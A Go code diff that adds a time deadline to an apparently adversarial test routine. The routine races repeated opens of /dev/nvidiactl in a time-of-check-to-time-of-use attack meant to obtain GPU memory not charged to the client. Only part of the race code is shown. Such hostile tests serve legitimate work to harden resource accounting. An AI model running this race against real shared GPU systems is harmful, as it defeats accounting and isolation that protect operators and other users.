@@ -23,13 +23,14 @@ func hostileTOCTOURoot(o hostileOptions) error {
 		return err
 	}
 	out, params := mem[:allocSize], mem[4096:4096+128]
-	tries, won := min(o.tries, 20000), 0
-	for i := 0; i < tries && won < 5; {
-		n, got, err := stealByRoot(out, params, tries-i)
+	tries, most, won := 0, min(o.tries, 20000), 0
+	deadline := time.Now().Add(raceTime)
+	for tries < most && won < 5 && time.Now().Before(deadline) {
+		n, got, err := stealByRoot(out, params, most-tries, deadline)
 		if err != nil {
 			return err
 		}
-		i += n
+		tries += n
 		if got {
 			won++
 		}
@@ -44,7 +45,7 @@ func hostileTOCTOURoot(o hostileOptions) error {
 }
 
 // stealByRoot tries with one client, until it got memory that was not charged and lost the client for it.
-func stealByRoot(out, params []byte, tries int) (n int, got bool, err error) {
+func stealByRoot(out, params []byte, tries int, deadline time.Time) (n int, got bool, err error) {
 	c, err := openGPU(patient)
 	if err != nil {
 		return 0, false, err
@@ -76,7 +77,7 @@ func stealByRoot(out, params []byte, tries int) (n int, got bool, err error) {
 		stopFlip()
 		_ = syscall.Close(slot)
 	}()
-	for ; n < tries; n++ {
+	for ; n < tries && time.Now().Before(deadline); n++ {
 		f, err := syscall.Open("/dev/nvidiactl", syscall.O_RDWR|syscall.O_CLOEXEC, 0)
 		if err != nil {
 			return n, false, err
